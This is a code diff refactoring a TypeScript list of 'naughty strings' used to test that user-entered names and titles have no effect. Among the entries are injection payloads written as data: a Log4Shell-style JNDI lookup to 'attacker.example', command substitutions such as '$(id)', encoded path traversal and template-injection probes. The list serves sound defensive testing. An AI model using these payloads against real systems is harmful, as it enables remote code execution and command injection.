@@ -1,5 +1,12 @@
-const codePoints = (from: number, to: number) =>
-  Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));
+/** The characters with the code points of a range, both ends included. */
+function codePoints(from: number, to: number): readonly string[] {
+  return Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));
+}
+
+/** Lists the strings that are separated by spaces. */
+function splitAtSpaces(...lines: readonly string[]): readonly string[] {
+  return lines.flatMap((line) => line.split(' '));
+}
 
 const controls = [...codePoints(0x00, 0x1f), ...codePoints(0x7f, 0x9f)];
 const invisible = [
@@ -48,14 +55,17 @@ const lineBreaks = [
 ];
 const words = [
   '[object Object]',
-  ...'null undefined NaN Infinity -Infinity true false None nil NULL (null) __proto__ constructor prototype toString hasOwnProperty valueOf __defineGetter__ then CON PRN AUX NUL COM1 LPT1 Scunthorpe undef eval this __dirname Symbol.iterator $where length name arguments self localhost'.split(
-    ' ',
+  ...splitAtSpaces(
+    'null undefined NaN Infinity -Infinity true false None nil NULL (null) __proto__',
+    'constructor prototype toString hasOwnProperty valueOf __defineGetter__ then CON PRN',
+    'AUX NUL COM1 LPT1 Scunthorpe undef eval this __dirname Symbol.iterator $where length',
+    'name arguments self localhost',
   ),
 ];
-const numbers =
-  '0 -0 1/0 0x0 0xffffffff 1e309 1e-400 .5 0.1e 1,000 ٣ ① 9007199254740993 999999999999999999999 2147483648 -2147483649 1E2 +1 0b1 1_000'.split(
-    ' ',
-  );
+const numbers = splitAtSpaces(
+  '0 -0 1/0 0x0 0xffffffff 1e309 1e-400 .5 0.1e 1,000 ٣ ① 9007199254740993',
+  '999999999999999999999 2147483648 -2147483649 1E2 +1 0b1 1_000',
+);
 const quotes = [
   "'",
   '"',
@@ -72,8 +82,9 @@ const quotes = [
   '<%= 1+1 %>',
   '`id`',
   '\x24{jndi:ldap://attacker.example/a}',
-  ...'«» “” ‘’ < > & &amp; &#0; % %% %s%n%x %00 %2e%2e%2f %ff #{1+1} {{1+1}} $(id) $HOME %USERPROFILE% {0} %@ @{x}'.split(
-    ' ',
+  ...splitAtSpaces(
+    '«» “” ‘’ < > & &amp; &#0; % %% %s%n%x %00 %2e%2e%2f %ff #{1+1} {{1+1}} $(id) $HOME',
+    '%USERPROFILE% {0} %@ @{x}',
   ),
 ];
 const injections = [
@@ -113,10 +124,11 @@ const injections = [
   'Basic dTpw',
   'data:text/html,x',
 ];
-const scripts =
-  'Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ 田中さんにあげて下さい 사회과학원 社會科學院 ÅÍÎÏ˝ÓÔ مُنَاقَشَةُ בְּרֵאשִׁית ЁЂЃЄЅІЇ ⁰⁴⁵₀₁₂ Ⱥ İıſß ﬁﬂ ǅ ṩ Ṩ क्षत्रिय ไทย ᚠᛇᚻ ⠓⠑⠇⠇⠕ 𝒯𝒽𝑒 𠜎𠜱 Z̴͚a͜l̛g͠o̷ e\u0301 \u0301 \u0338 ﷺ ‱ ﷽'.split(
-    ' ',
-  );
+const scripts = splitAtSpaces(
+  'Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ 田中さんにあげて下さい 사회과학원 社會科學院 ÅÍÎÏ˝ÓÔ مُنَاقَشَةُ בְּרֵאשִׁית',
+  'ЁЂЃЄЅІЇ ⁰⁴⁵₀₁₂ Ⱥ İıſß ﬁﬂ ǅ ṩ Ṩ क्षत्रिय ไทย ᚠᛇᚻ ⠓⠑⠇⠇⠕ 𝒯𝒽𝑒 𠜎𠜱 Z̴͚a͜l̛g͠o̷ e\u0301',
+  '\u0301 \u0338 ﷺ ‱ ﷽',
+);
 const emoji = [
   '😍',
   '👩‍💻',
@@ -140,7 +152,10 @@ const repeated = ['a', ' ', '\t', '.', '-', '_', '/', '🙂', 'é', '\u200d'].fl
   text.repeat(45),
 ]);
 
-/** 515 and more texts that have broken programs elsewhere: what may emulators in a name, a title or a text, and must do so without effect. */
+/**
+ * Strings that have broken other programs, in the manner of the Big List of Naughty Strings. Users
+ * may enter them as a name, a title or a text, and they must have no effect.
+ */
 export const naughtyStrings: readonly string[] = [
   ...new Set([
     ...controls,
